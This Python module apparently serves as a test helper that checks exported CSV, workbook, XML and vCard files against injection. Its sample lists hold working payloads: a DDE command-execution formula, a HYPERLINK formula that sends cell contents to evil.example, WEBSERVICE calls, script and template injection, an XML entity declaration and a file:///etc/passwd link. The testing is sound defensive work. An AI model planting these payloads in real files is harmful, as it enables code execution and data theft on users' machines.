"""Hostile texts, and looks at written files that share no code with the writers."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
import zipfile
from xml.parsers import expat

TRIGGERS = "=+-@\t\r\n\0＝＋－＠"
_BODIES = ("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example/?x="&A1,"see")')
SHAPES = (
    *(f"{sign}{body}" for sign in "=+-@" for body in _BODIES),
    *(f"{sign}1+1" for sign in "＝＋－＠"),
    *("\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1"),
    *("a;=1+1", "a,=1+1", "a\t=1+1", 'a"=1+1', "a\n=1+1", '=1+2";=1+2', "a;\u00a0@SUM(1)", "'=1+1"),
    *("=IMPORTXML(A1)", '=WEBSERVICE("https://evil.example")', "=DDE(1;2)"),
)
ODD = (
    *("<script>alert(1)</script>", "]]>", "a & b < c > d", "{{7*7}}", "</data>", "<!DOCTYPE x [<!ENTITY e 'x'>]>&e;"),
    *(
        "a\x01b\x08c\x1bd\x7fe\x9ff",
        "\u202eevil\u202c",
        "a\u2028b\u2029c\x85d",
        "\ufffe\uffff",
        "_x0041_",
        "\r\nEND:VCARD",
    ),
    *(
        "a:b;c,d\\e",
        "# head",
        "- item",
        "[x](https://evil.example)",
        "![x](https://evil.example)",
        "1. one",
        "www.evil.example",
    ),
    *("e\u0301" * 40, "👩‍🔬 عربي", "~~~", "---", "| a | b |", "http://evil.example", "mailto:x", "file:///etc/passwd"),
)
PLAIN = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def live_cells(text: str, separators: str = ",;\t") -> list[str]:
    """Return the cells that a spreadsheet would run, whatever separator it splits the text at."""
    found = []
    for separator in separators:
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            found += [cell for cell in row if _is_live(cell)]
    return found


def _is_live(cell: str) -> bool:
    if PLAIN.fullmatch(cell):
        return False
    for letter in cell:
        if letter in TRIGGERS:
            return True
        if unicodedata.category(letter) not in ("Zs", "Cf", "Cc", "Zl", "Zp"):
            return False
    return False


def workbook_faults(data: bytes) -> list[str]:
    """Return what a workbook holds beyond texts, days, numbers and links to profiles."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            text = book.read(name).decode("utf-8")
            found += [name] if re.search(r"externalLink|connection|vba|macro|embed|query", name, re.IGNORECASE) else []
            found += re.findall(r"<f[ >]|<definedName|ddeLink|<oleObject", text)
            outside = re.findall(r'Target="([^"]*)" TargetMode="External"', text)
            found += [one for one in outside if not one.startswith("https://www.linkedin.com/in/")]
            found += [name] if text.count("TargetMode") != len(outside) else []
            expat.ParserCreate().Parse(text, True)  # noqa: FBT003  # its own signature
    return found


def doctypes(text: str) -> list[str]:
    """Return the document types of an XML text (raises `ExpatError` if it is none)."""
    found: list[str] = []
    parser = expat.ParserCreate()
    parser.StartDoctypeDeclHandler = lambda name, *_: found.append(name)
    parser.EntityDeclHandler = lambda name, *_: found.append(name)
    parser.Parse(text, True)  # noqa: FBT003  # its own signature
    return found


def cards(text: str) -> list[list[tuple[str, str]]]:
    """Return the properties of each vCard, name and unescaped value; a line that is none raises."""
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
    assert "\n" not in text.replace("\r\n", "")
    found: list[list[tuple[str, str]]] = []
    for line in text.replace("\r\n ", "").split("\r\n")[:-1]:
        name, mark, value = line.partition(":")
        assert mark
        assert re.fullmatch(r"[A-Z]+(;VALUE=date)?", name), name
        if line == "BEGIN:VCARD":
            found.append([])
        plain = re.sub(r"\\(.)", lambda hit: "\n" if hit[1] == "n" else str(hit[1]), value)
        found[-1].append((name, plain if name not in ("N", "CATEGORIES") else value))
    return found
